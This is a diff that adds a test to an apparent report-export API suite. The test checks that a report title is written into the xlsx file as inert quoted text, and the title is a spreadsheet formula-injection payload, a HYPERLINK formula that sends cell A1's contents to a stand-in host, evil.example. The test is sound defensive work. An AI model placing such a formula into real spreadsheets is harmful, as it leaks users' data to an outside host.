@@ -146,6 +146,22 @@ async def test_the_xlsx_has_a_sheet_per_goal_whose_numbers_equal_the_apis(
         assert from_sheet == from_api, goal["code"]
 
 
+async def test_the_xlsx_holds_a_formula_in_the_title_as_inert_text(
+    client: httpx.AsyncClient, as_user: AuthHeaders
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+    headers = await as_user(SECRETARIAT_EDITOR)
+    report = await create(client, headers, year=2031, cutoff="2025-12-31", title=formula)
+    response = await client.get(f"/api/v1/reports/{report['id']}.xlsx", headers=headers)
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [c.value for c in cells if c.data_type == "f"]
+    assert [(c.data_type, c.quotePrefix) for c in cells if c.value == formula] == [("s", True)]
+    # numbers stay numbers, shown the Danish way with the indicator's decimals
+    assert any(c.data_type == "n" and c.number_format.startswith("#,##0") for c in cells)
+
+
 async def test_the_json_of_a_frozen_report_is_its_snapshot_and_the_hash_is_stable(
     client: httpx.AsyncClient, as_user: AuthHeaders
 ) -> None:
